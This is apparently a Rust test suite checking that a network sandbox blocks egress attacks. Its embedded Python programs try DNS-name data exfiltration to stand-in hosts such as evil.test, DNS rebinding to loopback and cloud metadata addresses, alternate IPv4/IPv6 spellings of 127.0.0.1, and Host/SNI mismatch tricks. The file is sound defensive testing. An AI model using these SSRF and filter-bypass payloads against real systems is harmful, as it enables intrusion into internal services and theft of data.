//! Names: what they carry out, where they lead, and the many spellings of an address.

use crate::client::eventually;
use crate::inside::Attack;
use crate::world::{PUBLIC, in_a_world};

#[test]
fn names_carry_nothing_out_and_lead_nowhere_inwards() {
    in_a_world(|world| {
        let policy = "allow origin.test; allow *.wild.test; allow *.test; deny evil.test; deny *.evil.test";
        let inside = world.sandbox(policy);
        inside.withstands(&ATTACKS);
        let asked = world.names.asked();
        for secret in ["exfiltrated", "evil", "nowhere"] {
            assert_eq!(asked.iter().find(|name| name.contains(secret)), None, "{asked:?}");
        }
        assert!(asked.contains(&"metadata.test".to_owned()), "it was tried: {asked:?}");
    });
}

#[test]
fn a_name_that_changes_its_mind_is_not_followed_inwards() {
    const REBINDING: [(&str, &str, &str); 6] = [
        ("rebind-0.test", "127.0.0.1", "a loopback address"),
        ("rebind-1.test", "169.254.169.254", "a cloud metadata address"),
        ("rebind-2.test", "10.1.2.3", "a private address"),
        ("rebind-3.test", "::ffff:127.0.0.1", "IPv6 form"),
        ("rebind-4.test", "64:ff9b::7f00:1", "IPv6 form"),
        ("rebind-5.test", "::1", "a loopback address"),
    ];
    in_a_world(|world| {
        let inside = world.sandbox("allow *.test");
        let ask = |name: &str| {
            inside.prints(&format!(
                "through(tunnel('{name}:443'), 'GET / HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n')"
            ))
        };
        for (name, ..) in REBINDING {
            world.names.set(name, &[PUBLIC]);
            assert!(!ask(name).contains("denied"), "it leads to a good place");
        }
        for (name, address, _) in REBINDING {
            world.names.set(name, &[address]);
        }
        for (name, address, standing) in REBINDING {
            // What was looked up a moment ago may be used for a moment more.
            let answer = eventually("the name leads somewhere else", || {
                let answer = ask(name);
                answer.contains("403 Forbidden").then_some(answer)
            });
            assert!(answer.contains(standing), "{address}: {answer}");
        }
        // One of several addresses that is allowed does not make the others so.
        world.names.set("both.test", &["127.0.0.1", PUBLIC]);
        assert!(inside.prints("get('http://both.test/both')").contains("REACHED GET /both"));
        // A connection that is kept stays where it was allowed to be made.
        world.names.set("both.test", &["127.0.0.1"]);
        assert!(inside.prints("get('http://both.test/both')").contains("REACHED GET /both"));
        assert_eq!(world.trapped(), Vec::<String>::new());
    });
}

#[test]
fn a_denied_host_is_not_reached_by_its_address_where_everything_is_open() {
    in_a_world(|world| {
        let inside = world.sandbox("open; deny evil.test; deny tcp://origin.test:7000; deny 93.184.216.36");
        inside.withstands(&OPEN);
        let evil = world.outside.said_at("93.184.216.35:443");
        assert!(evil.iter().all(|said| !said.contains("ATTACK")), "{evil:?}");
    });
}

const OPEN: [Attack; 4] = [
    Attack {
        name: "tls_cannot_ask_for_a_denied_name_at_its_address",
        program: r#"
for s in (tunnel("93.184.216.35:443"), socks(1, "93.184.216.35", 443), tunnel("origin.test:443")):
    through(secure(s, "evil.test"), "GET /ATTACK HTTP/1.0\r\n\r\n")
"#,
        denied: "deny evil.test",
    },
    Attack {
        name: "a_plain_request_to_an_address_cannot_name_a_denied_host",
        program: r#"
get("http://93.184.216.35/ATTACK", host="evil.test")
get("http://evil.test/ATTACK", host="93.184.216.35")
get("http://EVIL.test./ATTACK")
"#,
        denied: "Host header mismatch",
    },
    Attack {
        name: "a_denied_address_is_denied_by_every_name_and_spelling",
        program: r#"
for target in ("93.184.216.36", "expired.test", "[::ffff:93.184.216.36]", "[::ffff:5db8:d824]", "[64:ff9b::5db8:d824]", "[2002:5db8:d824::]"):
    through(tunnel(f"{target}:443"), "ATTACK")
    get(f"http://{target}/ATTACK")
"#,
        denied: "deny 93.184.216.36",
    },
    Attack {
        name: "everything_does_not_mean_the_host_and_its_neighbours",
        program: r#"
for target in ("127.0.0.1:9000", "10.1.2.3:5432", "169.254.169.254:80", "[::1]:9000", "loopback.test:9000", "private.test:5432", "metadata.test:80",
               "127.0.0.1:$API", "localhost:$API", "0.0.0.0:9000", "zero.test:9000"):
    through(tunnel(target), "ATTACK")
    through(socks(3, target.rsplit(":", 1)[0].strip("[]"), int(target.rsplit(":", 1)[1])), "ATTACK")
"#,
        denied: "10.1.2.3:5432",
    },
];

const ATTACKS: [Attack; 11] = [
    Attack {
        name: "data_in_names_below_an_allowed_wildcard_stays_inside",
        program: r#"
for part in range(20):
    code, addresses = ask(f"exfiltrated-{part:04x}.wild.test")
    assert code == 0 and addresses[0].startswith("127."), (code, addresses)
    socket.gethostbyname(f"exfiltrated-{part:04x}-again.wild.test")
"#,
        denied: "",
    },
    Attack {
        name: "data_in_names_that_are_refused_stays_inside",
        program: r#"
for name in ("exfiltrated.evil.test", "exfiltrated.example.org", "e" * 63 + ".exfiltrated.org", "exfiltrated"):
    code, addresses = ask(name)
    print("REACHED" if addresses else code)
    try:
        socket.getaddrinfo(name, 80)
        print("REACHED")
    except OSError as error:
        print(error)
"#,
        denied: "name not allowed",
    },
    Attack {
        name: "no_kind_of_question_is_asked_outside",
        program: r#"
for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 46, 64, 65, 249, 251, 252, 255):
    code, addresses = ask("exfiltrated.wild.test", kind)
    print(kind, code, addresses)
"#,
        denied: "",
    },
    Attack {
        name: "questions_over_tcp_stay_inside_too",
        program: r#"
name = b"\x0bexfiltrated\x04wild\x04test\0"
query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1)
with socket.create_connection(("127.0.0.1", 53), timeout=5) as s:
    s.sendall(struct.pack(">H", len(query)) + query)
    print(s.recv(512))
for garbage in (b"\0\0", b"\xff\xff", b"\0\x0cATTACKATTACK", query * 3):
    with socket.create_connection(("127.0.0.1", 53), timeout=5) as s:
        attempt(s.sendall, garbage)
        attempt(s.shutdown, socket.SHUT_WR)
        print(drain(s)[:40])
"#,
        denied: "",
    },
    Attack {
        name: "a_name_that_leads_to_the_host_is_not_followed",
        program: r#"
for name in ("loopback.test", "loopback-six.test", "mapped.test", "zero.test"):
    get(f"http://{name}/ATTACK")
    through(tunnel(f"{name}:443"), "ATTACK")
    through(socks(3, name, 80), f"GET /ATTACK HTTP/1.1\r\nHost: {name}\r\n\r\n")
    code, addresses = ask(name)
    direct(addresses[0], 80, data=f"GET /ATTACK HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
"#,
        denied: "loopback.test:80",
    },
    Attack {
        name: "a_name_that_leads_to_a_neighbour_or_the_metadata_is_not_followed",
        program: r#"
for name in ("private.test", "metadata.test"):
    get(f"http://{name}/ATTACK")
    through(tunnel(f"{name}:443"), "ATTACK")
    code, addresses = ask(name)
    direct(addresses[0], 80, data=f"GET /ATTACK HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
"#,
        denied: "metadata.test:80",
    },
    Attack {
        name: "an_address_has_no_other_spelling",
        program: r#"
for address in ("2130706433", "0x7f000001", "017700000001", "0x7f.1", "127.1", "0177.0.0.1", "127.0.0.01", "127.0.0.1.", "0", "00000000177.1",
                "2852039166", "0xa9fea9fe", "169.254.43518", "10.66051", "127.0.0.1%00.origin.test", "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1"):
    for port in (80, 9000, $API):
        get(f"http://{address}:{port}/ATTACK")
        through(tunnel(f"{address}:{port}"), "GET /ATTACK HTTP/1.0\r\n\r\n")
"#,
        denied: "not a host",
    },
    Attack {
        name: "an_address_of_version_six_hides_none_of_version_four",
        program: r#"
for address in ("::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "0:0:0:0:0:ffff:127.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe",
                "2002:7f00:1::", "2002:a9fe:a9fe::1", "fe80::1", "fe80::1%25lo", "fe80::1%lo", "fd00:ec2::254", "::ffff:0:127.0.0.1", "2001:0:0:0:0:0:80ff:fffe",
                "fe80::5efe:7f00:1", "::ffff:10.1.2.3", "ff02::1"):
    for port in (80, 9000):
        get(f"http://[{address}]:{port}/ATTACK")
        through(tunnel(f"[{address}]:{port}"), "GET /ATTACK HTTP/1.0\r\n\r\n")
"#,
        denied: "[::1]:9000",
    },
    Attack {
        name: "localhost_is_the_sandboxs_own",
        program: r#"
for name in ("localhost", "localhost.", "ip6-localhost", "localhost.localdomain", "a.localhost", "LOCALHOST", "vm", "runsc"):
    for port in (80, 9000, 5432, $API):
        get(f"http://{name}:{port}/ATTACK")
        through(tunnel(f"{name}:{port}"), "GET /ATTACK HTTP/1.0\r\n\r\n")
"#,
        denied: "localhost:9000",
    },
    Attack {
        name: "a_name_that_is_denied_is_not_even_asked_for",
        program: r#"
for name in ("evil.test", "api.test.evil.test", "nowhere.example"):
    get(f"http://{name}/ATTACK")
    through(tunnel(f"{name}:443"), "ATTACK")
    through(socks(3, name, 443), "ATTACK")
"#,
        denied: "deny evil.test",
    },
    Attack {
        name: "names_without_end_do_not_stop_the_others",
        program: r#"
refused = 0
for part in range(9000):
    code, addresses = ask(f"exfiltrated-{part}.wild.test")
    refused += code != 0
print("bounded" if refused else "REACHED: no bound")
code, addresses = ask("origin.test")
show(talk("GET / HTTP/1.1\r\nHost: origin.test\r\nConnection: close\r\n\r\n", to=(addresses[0], 80)).replace("REACHED", "served") if addresses else "no name")
"#,
        denied: "",
    },
];
